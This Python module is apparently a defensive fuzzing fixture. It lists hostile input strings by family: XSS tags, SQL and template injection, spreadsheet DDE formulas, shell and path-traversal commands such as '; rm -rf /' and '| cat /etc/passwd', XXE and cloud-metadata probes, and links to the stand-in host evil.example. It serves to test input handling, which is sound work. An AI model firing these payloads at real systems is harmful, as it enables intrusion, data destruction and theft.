"""Hostile words, by families: what strangers put where words are asked for. Each is one input; none may come alive."""

import itertools

RUN = "globalThis.__ran=1"

_TAGS = [
    "<script>{run}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "</textarea><script>{run}</script>", "</title><script>{run}</script>", "</style><script>{run}</script>",
    "--><script>{run}</script><!--", "]]><script>{run}</script>", '"><script>{run}</script>', "'><script>{run}</script>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", '"><img src=x onerror="{run}">', "<image href=x onerror={run}>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg/onload={run}//", "<svg><animate onbegin={run} attributeName=x>",
    "<svg><set onbegin={run}>", "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<math><mtext><mglyph><style><img src=x onerror={run}>", "<math href='javascript:{run}'>x</math>",
    "<body onload={run}>", "<iframe src='javascript:{run}'></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data='javascript:{run}'></object>", "<embed src='javascript:{run}'>", "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>", "<details open ontoggle={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<a href='javascript:{run}'>x</a>", "<a href='data:text/html,<script>{run}</script>'>x</a>", "<a href=//evil.example>x</a>",
    "<form action='javascript:{run}'><button>x</button></form>", "<button formaction='javascript:{run}'>x</button>",
    "<isindex action='javascript:{run}'>", "<base href='//evil.example/'>", "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=import href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>", "<style>*{{background:url(//evil.example)}}</style>",
    "<style>@import '//evil.example/x.css'</style>", "<div style='background:url(javascript:{run})'>", "<p style=position:fixed;inset:0>x",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><script>{run}</script></xmp>", "<plaintext>", "<!--", "<!DOCTYPE html><script>{run}</script>", "<?xml version='1.0'?><x/>",
    "<![CDATA[<script>{run}</script>]]>", "<custom-tag onclick={run}>", "<error-report data-thanks='<b>'>", "<dialog open>x</dialog>",
    "<x onclick={run} tabindex=1 autofocus onfocus={run}>", "<table background='javascript:{run}'>", "<frameset onload={run}>",
    "<img srcset='x 1x' onerror={run}>", "<img/src/onerror={run}>", "<img\tsrc=x\nonerror\n=\n{run}>", "<IMG SRC=`x` ONERROR={run}>",
    "<<script>{run}//<</script>", "<script\x0c>{run}</script\x0c>", "<a\u2028href='javascript:{run}'>x</a>",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "&#x3c;img src=x onerror={run}&#x3e;",
    "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "＜script＞{run}＜/script＞", "‹script›{run}‹/script›", "<ſcript>{run}</ſcript>", "<ımg src=x onerror={run}>",
]  # fmt: skip
_ATTRIBUTES = [
    "\" onmouseover=\"{run}", "' onmouseover='{run}", "` onmouseover=`{run}", "\" autofocus onfocus=\"{run}\" x=\"", "x onclick={run}",
    "\" style=\"position:fixed\" x=\"", "\"/><base href=\"//evil.example/", "' autofocus onfocus='{run}", "\\\" onload=\\\"{run}", "\t\"\tonload={run}",
    "\" data-keys=\"a", "\" href=\"javascript:{run}", "\" srcdoc=\"<script>{run}</script>", "\" is=\"error-report", "\" hx-get=\"//evil.example",
]  # fmt: skip
_SCRIPTS = [
    "';{run};'", "\";{run};\"", "`;{run};`", "${{{run}}}", "\\';{run};//", "*/{run}/*", "//{run}", "\u2028{run}", "\u2029{run}", "</script><script>{run}",
    "{{}}.constructor.constructor('{run}')()", "eval('{run}')", "import('//evil.example/x.js')", "fetch('//evil.example')", "javascript:{run}",
    "__proto__", "constructor", "prototype.x", "toString", "undefined", "null", "NaN", "[object Object]", "true", "0",
]  # fmt: skip
_TEMPLATES = [
    "{{{{7*7}}}}", "{{% debug %}}", "{{% include '/etc/passwd' %}}", "{{{{ settings.SECRET_KEY }}}}", "{{# x #}}", "{{{{request.user.password}}}}",
    "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "<?php echo 7*7 ?>", "[[7*7]]", "*{{7*7}}", "@(7*7)", "%(password)s", "%s%s%s%n", "{{0.__class__}}",
    "{{x!r}}", "%x%x%x", "{{{{''.__class__.__mro__}}}}", "$(7*7)", "~[7]", "{{% load i18n %}}", "{{{{ '<b>'|safe }}}}", "{{% csrf_token %}}",
]  # fmt: skip
_QUERIES = [
    "' OR '1'='1", "'; DROP TABLE reports_case; --", "\" OR \"\"=\"", "1; DELETE FROM stories_story", "') UNION SELECT password FROM staff_user --",
    "admin'--", "' AND SLEEP(5)--", "'; SELECT pg_sleep(5)--", "\\'; DROP TABLE x; --", "%' OR 1=1 --", "_%", "' || (SELECT 1) || '", "0x27204f52",
    "'; ATTACH DATABASE 'x' AS y; --", "' OR 1=1 LIMIT 1 OFFSET 1 --", "{{\"$gt\": \"\"}}", "*)(uid=*))(|(uid=*", "' or 'x' like '%", "1/0", "NULL",
]  # fmt: skip
_FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+SUM(1,1)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1", "=1+1;", "\"=1+1\"", "'=1+1", "=DDE(\"cmd\";\"/C calc\")", "=WEBSERVICE(\"http://evil.example\")",
]  # fmt: skip
_COMMANDS = [
    "; rm -rf /", "| cat /etc/passwd", "`id`", "$(id)", "&& id", "\nid\n", "../../../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd",
    "/dev/null", "CON", "NUL", "aux.txt", "~root", "%00", "%2e%2e%2f", "\\\\evil.example\\share", "http://169.254.169.254/latest/", "() { :; }; id",
    "Subject: x\r\nBcc: all@example.com", "x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>{run}</script>", "x%0d%0aLocation: //evil.example",
    "GET / HTTP/1.1", "X-Forwarded-For: 127.0.0.1", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x07\x08\x0b", "<!--#exec cmd='id' -->",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&xxe;", "&lol9;", "{{run}}",
]  # fmt: skip
_SCHEMES = [
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}", "javascript&colon;{run}",
    "data:text/html;base64,PHNjcmlwdD4x", "vbscript:msgbox(1)", "blob:https://evil.example/1", "view-source:javascript:{run}", "feed:javascript:{run}",
    "intent://x#Intent;end", "mailto:a@b.example?bcc=all@example.com", "tel:+1;x", "ftp://evil.example", "//evil.example", "\\/\\/evil.example",
    "https:evil.example", "https://example.com@evil.example", "https://evil.example\\@example.com", "http://[::1]/", "http://0x7f000001/",
    "https://раураl.example", "[x](javascript:{run})", "![x](javascript:{run})", "<javascript:{run}>", "[[javascript:{run}]]",
]  # fmt: skip
_SIGNS = [
    "\u202eпакет\u202c", "\u2066\u2067\u2069", "\u200bнуль\u200b", "\ufeffзнак", "a\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 9,
    "\u0300" * 60, "а" + "\u20dd" * 40, "ﷺ" * 30, "𒐫" * 30, "👨‍👩‍👧‍👦" * 20, "🏳️‍🌈", "\U000e0041\U000e0042", "\ufff9x\ufffa", "\uffff", "\ufffe",
    "\u0000", "a\u0000b", "\ud7ff", "\ue000", "\u2028", "\u2029", "\u0085", "\u00a0" * 40, "\u3164", "\u115f\u1160", "ı İ ß ſ K", "ﬁﬂﬃ", "①②③",
    "Ⅷ ⅷ", "½⅓", "˙˙˙", "ʇxǝʇ", "𝓽𝓮𝔁𝓽", "раураl", "ехаmple", "Ω≈ç√∫˜µ", "田中さん", "العربية", "עברית", "ไทย", "हिन्दी", "한국어", "ʻokina", "´`'’‘",
    "\u034f" * 30, "\u2060" * 30, "\u180e", "\u061c", "\u200e\u200f", "\u1d173", "\ufe0f" * 30, "\u0d4e", "జ్ఞ\u200cా", "لُلُصّبُلُلصّبُررً",
]  # fmt: skip
_LARGE = [
    "а" * 1000, "а" * 1001, "<" * 999, "&" * 999, "'" * 999, "\"" * 999, "\\" * 999, " " * 999, "\n" * 999, "а " * 499, "<b>" * 333, "😀" * 500,
    "\U0001d173" * 300, "{{" * 499, "%" * 999, "(" * 999, "a" * 255 + "😀", "x" * 5000, "\t" * 999, "̈" * 999,
]  # fmt: skip

FAMILIES = {
    "tags": _TAGS, "attributes": _ATTRIBUTES, "scripts": _SCRIPTS, "templates": _TEMPLATES, "queries": _QUERIES,
    "formulas": _FORMULAS, "commands": _COMMANDS, "schemes": _SCHEMES, "signs": _SIGNS, "large": _LARGE,
}  # fmt: skip


def _words(family: str, written: str) -> str:
    if family in {"signs", "large", "formulas"}:
        return written
    return written.replace("{run}", RUN).replace("{{", "{").replace("}}", "}") if family != "templates" else written


INPUTS = list(
    dict.fromkeys(
        itertools.chain.from_iterable(
            (_words(family, written) for written in inputs) for family, inputs in FAMILIES.items()
        )
    )
)
